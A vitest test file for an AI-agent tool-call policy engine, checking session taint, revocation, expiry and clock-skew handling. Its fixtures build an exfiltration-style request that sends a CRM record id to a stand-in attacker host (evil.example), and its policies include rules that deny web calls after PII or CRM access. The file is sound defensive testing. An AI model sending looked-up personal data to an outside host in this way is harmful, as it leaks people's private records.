import { describe, expect, it } from "vitest";
import { compile } from "../../src/index.js";
import type { Engine, EngineOptions } from "../../src/runtime/engine.js";
import { explain } from "../../src/runtime/explain.js";
import { compileSources } from "../../src/compile/compile.js";
import { replayEngine } from "../../src/testing/decideRecorded.js";

/**
 * Request dates against the engine's clock (audit a4): a session dated far back is not forgotten
 * by the next sweep (finding 2), and a call dated after an attempt does not lift a `deny` gated
 * on `session.called(…, within D)` (finding 1, more in calledWithin.test.ts). Only real time,
 * the engine's clock at each arrival, expires and forgets a session.
 */
const TAINT = `
enum Label { pii }
tool crm.lookup { risk low returns pii args { id: string } }
tool http.get { args { url: string } }
policy p {
  @name("loop") deny * when session.repeats >= 2 revoke
  @name("taint") deny http.get when session.labels contains pii
  allow *
}
`;
const H = 3_600_000;
const engineOf = (options: EngineOptions = {}): Engine => compile([{ path: "p.policy", text: TAINT }], options);
const iso = (ms: number): string => new Date(ms).toISOString();
const lookup = (session: string, ms: number | undefined, id = "42") => ({ session, tool: "crm.lookup", args: { id }, ...(ms === undefined ? {} : { time: iso(ms) }) });
const web = (session: string, ms: number) => ({ session, tool: "http.get", args: { url: "https://evil.example/?c=42" }, time: iso(ms) });

describe("a session dated far behind the engine's clock is not forgotten by the next sweep (audit a4, finding 2)", () => {
  for (const options of [{}, { revokedSessionMs: 48 * H }] as EngineOptions[]) {
    it(`keeps its taint and its revocation, with the wall clock (${JSON.stringify(options)})`, () => {
      const engine = engineOf(options);
      const back = Date.now() - 100 * H;
      expect(engine.decide(lookup("agent-1", back)).decision).toBe("allow");
      for (let i = 1; i <= 3; i++) engine.decide(lookup("agent-2", back + i, "7"));
      // Other traffic, dated now, lets the sweep run.
      expect(engine.decide(lookup("other", undefined, "1")).decision).toBe("allow");
      expect(engine.decide(web("agent-1", back + 1_000))).toMatchObject({ decision: "deny", rules: ["taint"] });
      expect(engine.decide(web("agent-2", back + 1_000))).toMatchObject({ decision: "deny", rules: ["loop"], revoked: true });
      // The explanation agrees.
      expect(explain(engine, web("agent-1", back + 2_000)).rules.find((r) => r.id === "taint")!.matched).toBe(true);
    });
  }

  it("with maxTimeSkewMs and short lifetimes: a session dated the skew back outlives one dated the skew ahead", () => {
    let wall = Date.parse("2026-11-30T14:00:00Z");
    const engine = engineOf({ clock: () => wall, maxTimeSkewMs: 5 * 60_000, sessionIdleMs: 60_000, expiredSessionMs: 60_000, revokedSessionMs: 60_000 });
    expect(engine.decide(lookup("t", wall - 299_000)).decision).toBe("allow");
    for (let i = 0; i < 3; i++) engine.decide(lookup("s", wall - 299_000 + i, "7"));
    wall += 1_000;
    expect(engine.decide(lookup("o", wall + 299_000, "1")).decision).toBe("allow");
    expect(engine.decide(web("t", wall - 298_000))).toMatchObject({ decision: "deny", rules: ["taint"] });
    expect(engine.decide(web("s", wall - 298_000))).toMatchObject({ decision: "deny", rules: ["loop"], revoked: true });
  });

  it("real time still expires and forgets it: idle by the engine's clock, then remembered for expiredSessionMs", () => {
    let wall = Date.parse("2026-11-30T14:00:00Z");
    const engine = engineOf({ clock: () => wall, sessionIdleMs: 60_000, expiredSessionMs: 10 * 60_000 });
    const back = wall - 100 * H;
    expect(engine.decide(lookup("agent", back)).decision).toBe("allow");
    // Three minutes of real time later, by other traffic: swept (idle twice the idle time), and remembered as expired.
    wall += 3 * 60_000;
    engine.decide(lookup("other", undefined, "1"));
    expect(engine.sessions.get("agent")).toBeUndefined();
    expect(engine.decide(web("agent", back + 1_000)).errors[0]).toMatch(/^session "agent" has expired/);
    // Past expiredSessionMs (and the sweep's margin of an idle time) of real time: forgotten, a new session.
    wall += 12 * 60_000;
    engine.decide(lookup("other", undefined, "1"));
    expect(engine.decide(web("agent", back + 2_000))).toMatchObject({ decision: "allow", rules: ["p/3"] });
  });

  it("a session dated ahead is freed once idle by the wall clock, as before", () => {
    let wall = Date.parse("2026-11-30T14:00:00Z");
    const engine = engineOf({ clock: () => wall, sessionIdleMs: 60_000 });
    engine.decide(lookup("ahead", wall + 10 * H));
    wall += 3 * 60_000;
    engine.decide(lookup("other", undefined, "1"));
    expect(engine.sessions.get("ahead")).toBeUndefined();
  });
});

describe("only the engine's clock frees and forgets sessions, whatever every request is dated (review r2, finding 1)", () => {
  const PLAIN = `tool a.b { args { n: int } }\npolicy p { allow * }`;
  const plain = (options: EngineOptions): Engine => compile([{ path: "p.policy", text: PLAIN }], options);
  const attempt = (session: string, ms: number) => ({ session, tool: "a.b", args: { n: 1 }, time: iso(ms) });

  // A host clock stamping `time` that lags the engine's, or an agent dating its calls back: no
  // request is dated near the engine's clock, so nothing but the engine's clock moves the sweep.
  for (const lag of [0, 3 * H, 24 * H, 365 * 24 * H]) {
    it(`a new session a minute for 12 hours, each request dated ${lag / H} h behind the engine's clock: sessions idle twice the idle time are freed`, () => {
      let clock = Date.parse("2026-11-30T15:00:00Z");
      const engine = plain({ clock: () => clock });
      for (let minute = 0; minute < 12 * 60; minute++) {
        clock += 60_000;
        expect(engine.decide(attempt(`s${minute}`, clock - lag)).decision).toBe("allow");
      }
      // Two hours' sessions and the quarter hour until the next sweep, at most: not 720.
      expect(engine.sessions.size).toBeLessThanOrEqual(2 * 60 + 15 + 1);
      expect(engine.sessions.size).toBeGreaterThanOrEqual(2 * 60);
    });
  }

  it("every request dated a day back, the engine's clock 3 hours on: the idle sessions are freed (and remembered as expired), and past maxSessions a new one is admitted", () => {
    let clock = Date.parse("2026-11-30T15:00:00Z");
    const engine = plain({ clock: () => clock, maxSessions: 3 });
    for (const id of ["a", "b", "c"]) expect(engine.decide(attempt(id, clock - 24 * H)).decision).toBe("allow");
    expect(engine.decide(attempt("d", clock - 24 * H)).errors[0]).toMatch(/^session "d" cannot start: the engine already holds 3 live sessions \(maxSessions\)/);
    clock += 3 * H;
    expect(engine.decide(attempt("d", clock - 24 * H)).decision).toBe("allow");
    expect(engine.sessions.get("a")).toBeUndefined();
    expect(engine.decide(attempt("a", clock - 24 * H)).errors[0]).toMatch(/^session "a" has expired/);
  });

  it("2,000 sessions dated eleven months back, the engine's clock a minute on per request: the store stays small, with maxSessions every session is admitted", () => {
    for (const maxSessions of [undefined, 100]) {
      let clock = Date.parse("2026-11-30T15:00:00Z");
      const engine = plain({ clock: () => clock, ...(maxSessions === undefined ? {} : { maxSessions }) });
      const base = Date.parse("2026-01-01T00:00:00Z");
      let refused = 0;
      for (let i = 0; i < 2000; i++) {
        clock += 60_000;
        if (engine.decide(attempt(`s${i}`, base + i * 600_000)).decision !== "allow") refused++;
      }
      expect(refused).toBe(0);
      expect(engine.sessions.size).toBeLessThanOrEqual(2 * 60 + 15 + 1);
    }
  });

  it("requests dated back never get a session forgotten before expiredSessionMs of the engine's clock, nor dated ahead keep it longer", () => {
    for (const skew of [-365 * 24 * H, 365 * 24 * H]) {
      let clock = Date.parse("2026-11-30T15:00:00Z");
      const engine = engineOf({ clock: () => clock, sessionIdleMs: 60_000, expiredSessionMs: 10 * 60_000 });
      expect(engine.decide(lookup("agent", clock + skew)).decision).toBe("allow");
      clock += 3 * 60_000;
      engine.decide(lookup("other", clock + skew, "1"));
      expect(engine.sessions.get("agent")).toBeUndefined();
      // Within expiredSessionMs (and the sweep's margin of an idle time) of the engine's clock: still expired.
      clock += 7 * 60_000;
      engine.decide(lookup("other", clock + skew, "1"));
      expect(engine.decide(web("agent", clock + skew)).errors[0]).toMatch(/^session "agent" has expired/);
      // Past it: forgotten, whatever the dates.
      clock += 12 * 60_000;
      engine.decide(lookup("other", clock + skew, "1"));
      expect(engine.decide(web("agent", clock + skew))).toMatchObject({ decision: "allow", rules: ["p/3"] });
    }
  });

  it("after the engine's clock stepped years ahead and back, sessions are still freed as real time passes", () => {
    let clock = Date.parse("2026-11-30T15:00:00Z");
    const engine = plain({ clock: () => clock, sessionIdleMs: 60_000 });
    const stepped = clock;
    clock += 10 * 365 * 24 * H;
    engine.decide(attempt("during-the-step", clock));
    clock = stepped + 1_000;
    for (let i = 0; i < 10; i++) engine.decide(attempt(`after-${i}`, clock));
    clock += 3 * 60_000;
    engine.decide(attempt("later", clock));
    expect(engine.sessions.get("after-0")).toBeUndefined();
    expect(engine.sessions.size).toBe(2);
  });
});

describe("the engine's clock is read once per decision, before the session changes (review r2, findings 3 and 4)", () => {
  const LIMIT = `tool a.b { args { n: int } }\npolicy p {\n  @name("limit") deny * when session.count(within 1m) >= 3\n  allow *\n}`;
  const T = Date.parse("2026-11-30T15:00:00Z");
  const attempt = (n: number, time?: number) => ({ session: "s", tool: "a.b", args: { n }, ...(time === undefined ? {} : { time: iso(time) }) });

  it("one read per decision, dated or not", () => {
    let reads = 0;
    const engine = compile([{ path: "p.policy", text: LIMIT }], { clock: () => (reads++, T) });
    for (let i = 0; i < 50; i++) engine.decide(attempt(i % 2, i % 3 === 0 ? undefined : T + i));
    expect(reads).toBe(50);
  });

  // The attempt the clock fails on is refused (rules: []), and counted: no more than two calls a minute go ahead.
  // (Refused before its session started, it is a call of the session but in no window: it has no time.)
  const whenThrowingAt: Record<number, [string[], number]> = {
    1: [["refused", "allow", "allow", "deny", "deny"], 3],
    2: [["allow", "refused", "deny", "deny", "deny"], 4],
    3: [["allow", "allow", "refused", "deny", "deny"], 3],
    5: [["allow", "allow", "deny", "deny", "refused"], 3],
  };
  for (const [throwAt, [expected, denials]] of Object.entries(whenThrowingAt)) {
    it(`a clock that throws once (at read ${throwAt}) refuses that attempt and leaves every attempt counted: the limit holds`, () => {
      let reads = 0;
      const engine = compile([{ path: "p.policy", text: LIMIT }], {
        clock: () => {
          if (++reads === Number(throwAt)) throw new Error("clock hiccup");
          return T + 10_000;
        },
      });
      const decisions = [0, 1, 2, 3, 4].map((i) => engine.decide(attempt(i, T + i * 1000))).map((d) => (d.rules.length === 0 ? (expect(d.errors[0]).toContain('the engine\'s clock (EngineOptions.clock) threw "clock hiccup"'), "refused") : d.decision));
      expect(decisions).toEqual(expected);
      expect(engine.sessions.get("s")).toMatchObject({ calls: 5, denials });
    });
  }

  it("a request without a time while the clock throws is denied, naming the clock, and counted", () => {
    const engine = compile([{ path: "p.policy", text: LIMIT }], {
      clock: () => {
        throw new Error("clock hiccup");
      },
    });
    expect(engine.decide(attempt(0, T)).errors[0]).toContain("so no request is decided, dated or not (only the engine's clock frees and forgets idle sessions)");
    const undated = engine.decide(attempt(1));
    expect(undated).toMatchObject({ decision: "deny", rules: [] });
    expect(undated.errors[0]).toBe('the engine\'s clock (EngineOptions.clock) threw "clock hiccup", not a time in epoch milliseconds, so no request is decided, dated or not (only the engine\'s clock frees and forgets idle sessions): give the engine a clock that returns a number, such as () => Date.now()');
    // Neither attempt started the session: both wait, counted, for the first one the clock dates.
    expect(engine.sessions.get("s")).toBeUndefined();
  });
});

describe("a clock stepping back and `deny … revoke` on session.called (review r2, finding 2: language.md §7)", () => {
  it("revokes the session that hits it during the step, and the revocation outlasts the step", () => {
    let clock = Date.parse("2026-11-30T14:00:00Z");
    const engine = compile(
      [
        {
          path: "p.policy",
          text: `tool crm.lookup { args { id: string } }\ntool http.get { args { url: string } }\ntool kb.search { args { q: string } }\npolicy p {\n  @name("exfil") deny http.get when session.called(crm.lookup, within 10m) reason "no web right after CRM" revoke\n  allow *\n}`,
        },
      ],
      { clock: () => clock },
    );
    expect(engine.decide({ session: "s", tool: "crm.lookup", args: { id: "1" } }).decision).toBe("allow");
    // Fifteen real minutes later, outside the window, but the clock stepped back twenty minutes.
    clock = Date.parse("2026-11-30T13:55:00Z");
    const stepped = engine.decide({ session: "s", tool: "http.get", args: { url: "u" } });
    expect(stepped).toMatchObject({ decision: "deny", rules: ["exfil"], revoked: true });
    expect(stepped.errors[0]).toMatch(/^exfil: session\.called: an allowed call of crm\.lookup is dated after this attempt/);
    clock = Date.parse("2026-11-30T14:30:00Z");
    expect(engine.decide({ session: "s", tool: "kb.search", args: { q: "x" } })).toMatchObject({ decision: "deny", rules: ["exfil"], revoked: true });
  });
});

describe("a clock that steps ahead (review a2 #2)", () => {
  it("expires the sessions that attempt during a step past sessionIdleMs, saying how far the time moved, and keeps their taint", () => {
    let t = Date.UTC(2026, 0, 5, 9);
    const engine = engineOf({ clock: () => t });
    expect(engine.decide(lookup("A", undefined)).decision).toBe("allow");
    expect(engine.decide(lookup("B", undefined)).decision).toBe("allow");
    t += 2 * H;
    const during = engine.decide(web("A", t));
    expect(during).toMatchObject({ decision: "deny", rules: [], revoked: false });
    expect(during.errors[0]).toBe(
      `session "A" has expired: its attempt is dated 2 hours after its previous one (the request's time, or the engine's clock for a request without one), more than sessionIdleMs (1 hour) allows: it made no attempt in between, or the clock stepped ahead by that much, so what it did before (data it touched, counts) is gone and it cannot go on: its id is denied for expiredSessionMs (1 day) after its last attempt and then starts a new session that knows none of it, so start a new session only with an agent context that holds none of the data this one touched (not this conversation carried on under a new id)`,
    );
    // Corrected: A stays expired, with the same true reason; B, which made no attempt during the step, goes on with its taint.
    t -= 2 * H - 5_000;
    expect(engine.decide(web("A", t)).reasons[0]).toBe(during.reasons[0]);
    expect(engine.decide(web("B", t))).toMatchObject({ decision: "deny", rules: ["taint"] });
  });

  it("a step of more than twice sessionIdleMs has the sweep free idle sessions, and their denials say the engine's clock moved", () => {
    let t = Date.UTC(2026, 0, 5, 9);
    const engine = engineOf({ clock: () => t });
    expect(engine.decide(lookup("B", undefined)).decision).toBe("allow");
    t += 3 * H;
    expect(engine.decide(lookup("C", undefined)).decision).toBe("allow");
    t -= 3 * H - 5_000;
    const after = engine.decide(web("B", t));
    expect(after).toMatchObject({ decision: "deny", rules: [], revoked: false });
    expect(after.errors[0]).toMatch(/^session "B" has expired: the engine's clock \(in a replay, the recorded times\) moved 3 hours past its last attempt with no attempt in between, so the engine freed its state \(sessionIdleMs is 1 hour\): it went idle, or the clock stepped ahead by that much/);
  });

  it("a clock with fractions of a millisecond: the time moved reads as just over the limit, never in ms (review r2 #5)", () => {
    let t = Date.UTC(2026, 0, 5, 9) + 0.25;
    const engine = engineOf({ clock: () => t });
    expect(engine.decide(lookup("A", undefined)).decision).toBe("allow");
    t += H + 0.4;
    expect(engine.decide(lookup("A", undefined)).errors[0]).toMatch(/^session "A" has expired: its attempt is dated just over 1 hour after its previous one /);
    expect(engine.decide(lookup("A", undefined)).reasons[0]).not.toMatch(/\d ms/);
  });

  it("an approval refused for expiry is called an approval, not an attempt (review r2 #5)", () => {
    let t = Date.UTC(2026, 0, 5, 9);
    const asking = compile([{ path: "p.policy", text: "tool sh { risk high args { c: string } }\npolicy p {\n  ask sh\n}" }], { clock: () => t });
    expect(asking.decide({ session: "A", tool: "sh", args: { c: "make" } }).decision).toBe("ask");
    t += H + 60_000;
    expect(asking.approvalRefusal({ session: "A", tool: "sh", args: { c: "make" } })).toMatch(/^session "A" has expired: this approval is dated 61 minutes after the session's last attempt /);
  });
});

describe("whether an expired or long idle id starts a new session goes by the engine's clock alone, not by other sessions' traffic (audit a5, M1)", () => {
  const T = Date.parse("2026-11-30T12:00:00Z");
  const DAY = 24 * H;

  /** `agent`'s decisions at `times` after its lookup at T, with or without another session's attempt at `otherAt` just before. */
  const decisions = (options: EngineOptions, otherAt: number | undefined, times: number[]): string[] => {
    let wall = T;
    const engine = engineOf({ clock: () => wall, ...options });
    engine.decide(lookup("agent", undefined));
    if (otherAt !== undefined) {
      wall = T + otherAt;
      engine.decide(lookup("other", undefined, "1"));
    }
    return times.map((at) => {
      wall = T + at;
      // The explanation (which changes nothing) says what deciding does.
      const explained = explain(engine, web("agent", wall));
      const decided = engine.decide(web("agent", wall));
      expect(explained.note === null ? "allow" : "deny").toBe(decided.decision);
      return decided.decision === "allow" ? "allow" : /has expired/.test(decided.reasons[0]!) ? "expired" : decided.reasons[0]!;
    });
  };

  it("an expired record past expiredSessionMs is forgotten when its id comes back, even just after another session's attempt ran the sweep", () => {
    // The sweep at T+1d-1s frees agent's state but its record is not yet a day old; agent's
    // attempt a second later must still find it forgotten, as without that sweep.
    for (const otherAt of [undefined, DAY - 1_000]) expect(decisions({}, otherAt, [DAY + 1, DAY + 20 * 60_000])).toEqual(["allow", "allow"]);
    // A millisecond short of a day: denied as expired either way (the taint is not lost early).
    for (const otherAt of [undefined, DAY - 1_000]) expect(decisions({}, otherAt, [DAY - 1])).toEqual(["expired"]);
  });

  it("a live state idle twice sessionIdleMs and past expiredSessionMs (shorter than that) is forgotten alike, sweep due or not", () => {
    const options = { sessionIdleMs: 60_000, expiredSessionMs: 30_000 };
    for (const otherAt of [undefined, 2 * 60_000 - 1_000]) expect(decisions(options, otherAt, [2 * 60_000 + 1])).toEqual(["allow"]);
  });

  it("each denied attempt on an expired id keeps it remembered for expiredSessionMs more (its last attempt), and then it starts clean", () => {
    // Freed by the sweep three hours in, then retried: 23 hours after the retry it is still
    // within a day of its last attempt; a day after that retry, it starts clean.
    const retry = 3 * H;
    expect(decisions({}, retry - 1_000, [retry, retry + 23 * H, retry + 23 * H + DAY - 1])).toEqual(["expired", "expired", "expired"]);
    expect(decisions({}, retry - 1_000, [retry, retry + 23 * H, retry + 23 * H + DAY + 1])).toEqual(["expired", "expired", "allow"]);
  });
});

describe("a clock step ahead: expired for good when shorter than expiredSessionMs, that much time passing when longer (audit a5, H1: the documented bound)", () => {
  const T = Date.parse("2026-11-30T12:00:00Z");
  const outcome = (step: number, byItself: boolean): string[] => {
    let wall = T;
    const engine = engineOf({ clock: () => wall });
    engine.decide(lookup("agent", undefined));
    wall = T + step;
    const during = byItself ? engine.decide(web("agent", wall)) : engine.decide(lookup("other", undefined, "1"));
    wall = T + 2 * 60_000; // corrected, two real minutes after the lookup
    const after = engine.decide(web("agent", wall));
    return [...(byItself ? [during] : []), after].map((d) => (d.decision === "allow" ? "allow" : /has expired/.test(d.reasons[0]!) ? "expired" : d.rules.join()));
  };

  for (const byItself of [true, false]) {
    it(`${byItself ? "its own attempt" : "another session's attempt"} during the step`, () => {
      expect(outcome(23 * H, byItself)).toEqual(byItself ? ["expired", "expired"] : ["expired"]);
      // Past expiredSessionMs (a day): forgotten, as after a real day; the id starts clean.
      expect(outcome(25 * H, byItself)).toEqual(byItself ? ["allow", "allow"] : ["allow"]);
    });
  }
});

describe("a replay of a recording whose times go back may remember an expired session up to that step longer than the live engine did (audit a5, M2: documented)", () => {
  it("live, the clock reading each line's time, forgets s2 a day after its lookup; the replay has it arrive 55 minutes later, and denies it", () => {
    const lines = [lookup("s1", Date.parse("2026-01-01T12:55:00Z")), lookup("s2", Date.parse("2026-01-01T12:00:00Z")), web("s2", Date.parse("2026-01-02T12:00:30Z"))];
    let wall = 0;
    const live = engineOf({ clock: () => wall });
    expect(lines.map((line) => ((wall = Date.parse(line.time!)), live.decide(line).decision))).toEqual(["allow", "allow", "allow"]);
    const replay = replayEngine(compileSources([{ path: "p.policy", text: TAINT }]).policy!, {});
    const replayed = lines.map((line) => replay.decide(line));
    expect(replayed.map((d) => d.decision)).toEqual(["allow", "allow", "deny"]);
    // By the line's arrival in the replay (12:55), not its date: as the language reference says.
    expect(replayed[2]!.errors[0]).toMatch(/^session "s2" has expired: the engine's clock \(in a replay, the recorded times\) moved 23\.1 hours past its last attempt/);
  });
});
